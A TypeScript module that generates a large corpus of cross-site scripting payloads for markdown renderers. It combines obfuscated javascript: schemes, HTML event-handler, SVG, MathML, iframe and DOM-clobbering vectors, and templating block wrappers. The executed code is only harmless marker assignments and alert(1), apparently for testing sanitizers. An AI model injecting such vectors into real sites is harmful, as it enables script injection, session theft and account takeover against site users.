/** Ways to make a page run something, combined from parts: a vector, a disguise, and a place. */

const calls = [
  'window.__alive=1',
  'parent.__alive=1',
  'globalThis["__alive"]=1',
  'alert(1)',
  'top.__alive=1',
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript&colon;',
  'javascript&#x3A;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19hbGl2ZT0xPC9zY3JpcHQ+//',
  'feed:javascript:',
  'view-source:javascript:',
  'javascript://%0a',
];

const elements = (call: string): string[] => [
  `<script>${call}</script>`,
  `<ScRiPt src="data:text/javascript,${call}"></sCrIpT>`,
  `<img src=x onerror="${call}">`,
  `<img src=x onerror=${call}//`,
  `<svg onload="${call}"></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<details open ontoggle="${call}"><summary>x</summary></details>`,
  `<iframe srcdoc="<script>parent.__alive=1</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form><form id=f></form><button form=f formaction="javascript:${call}">y</button>`,
  `<input autofocus onfocus="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror="${call}">`,
  `<body onload="${call}">`,
  `<marquee onstart="${call}">x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${call})}">`,
  `<style>@import "javascript:${call}";*{background:url("javascript:${call}")}</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<a href="x" onmouseover="${call}" style="position:fixed;inset:0;animation:x 1s" onanimationstart="${call}">x</a>`,
  `<div style="background:url(javascript:${call});width:expression(${call})">x</div>`,
  `<table background="javascript:${call}"><tr><td background="javascript:${call}">x</td></tr></table>`,
  `<button class="button" data-action="${call}" data-query='"><img src=x onerror=${call}>' onclick="${call}">b</button>`,
  `<tm-slot data-slot="0-0" onclick="${call}"><img src=x onerror="${call}"></tm-slot>`,
  `<a id="documentElement" name="cookie" href="javascript:${call}">c</a><img name="getElementById" src=x>`,
  `<p><!--><img src=x onerror="${call}">--></p>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}">e</a>`,
  `<picture><source srcset="javascript:${call}" media="(prefers-color-scheme: dark)"><img src="javascript:${call}" alt="\\" onerror=${call}"></picture>`,
];

const markdownForms = (url: string): string[] => [
  `[x](${url})`,
  `[x](<${url}>)`,
  `![x](${url})`,
  `[r]\n\n[r]: ${url.trim().replace(/\s/g, '')}`,
  `<a href="${url}">x</a>`,
  `<img src="${url}">`,
];

const blockForms = (value: string): string[] => {
  const quoted = value.replace(/[\\"]/g, (character) => `\\${character}`).replace(/\n/g, ' ');
  return [
    `{% embed url="${quoted}" %}`,
    `{% file src="${quoted}" %}`,
    `{% content-ref url="${quoted}" %}\n[x](${value})\n{% endcontent-ref %}`,
    `{% tabs %}\n{% tab title="${quoted}" icon="${quoted}" %}\n${value}\n{% endtab %}\n{% endtabs %}`,
    `{% code title="${quoted}" %}\n\`\`\`html\n${value}\n\`\`\`\n{% endcode %}`,
    `{% hint style="${quoted}" icon="${quoted}" %}\n${value}\n{% endhint %}`,
    `{% @x/y content="${quoted}" %}`,
    `{% update date="${quoted}" tags="${quoted}" %}\n${value}\n{% endupdate %}`,
  ];
};

/** All payloads, each a piece of markdown. */
export function payloads(): string[] {
  const all: string[] = [];
  for (const [at, call] of calls.entries()) {
    const raw = elements(call);
    all.push(...raw);
    for (const each of raw) {
      all.push(`> ${each}`, `text ${each} text`, `$$ \\href{javascript:${call}}{x} ${each} $$`);
      if (at < 2)
        all.push(
          `<details><summary>${each}</summary>\n\n{% hint style="info" %}\n${each}\n\n</details>\n{% endhint %}`,
        );
    }
    if (at === 0) for (const each of raw) all.push(...blockForms(each));
    for (const scheme of schemes) {
      all.push(...markdownForms(`${scheme}${call}`));
      if (at === 0) all.push(...blockForms(`${scheme}${call}`).slice(0, 3));
    }
  }
  return [...new Set(all)];
}
